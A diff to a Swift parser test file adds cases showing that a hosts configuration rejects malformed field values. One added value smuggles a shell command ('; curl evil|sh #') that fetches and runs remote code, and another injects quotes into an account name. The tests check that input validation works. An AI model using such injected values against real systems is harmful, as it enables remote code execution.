@@ -50,6 +50,14 @@ import Wire
     ("{E, \"zones\": {\"a.example\": {\"b.example\": []}}}", "f:1:83: \"b.example\" is not below its zone a.example"),
     ("{E, \"zones\": {\"a.example\": {\"x.a.example\": \"k\"}}}", "where a host came from must be a list"),
     ("{E, \"zones\": {\"a.example\": {\"x.a.example\": [\"k, bad\"]}}}", "\"k, bad\" is not a source"),
+    (
+      "{\"kind\": \"hosts\", \"service\": \"com.amazonaws.vpce.us-east-1.vpce-svc-0; curl evil|sh #\", \"zones\": {}}",
+      "f:1:30: \"service\" is \"com.amazonaws.vpce.us-east-1.vpce-svc-0; curl evil|sh #\": write a word of letters"
+    ),
+    (
+      "{\"kind\": \"hosts\", \"account\": \"a', please:\", \"zones\": {}}",
+      "f:1:30: \"account\" is \"a', please:\": write"
+    ),
     ("{E, \"zones\": {\"*.a.example\": {\"x.*.a.example\": []}}}", "f:1:"),
   ]) func saysWhatIsWrong(text: String, message: String) {
     let text =
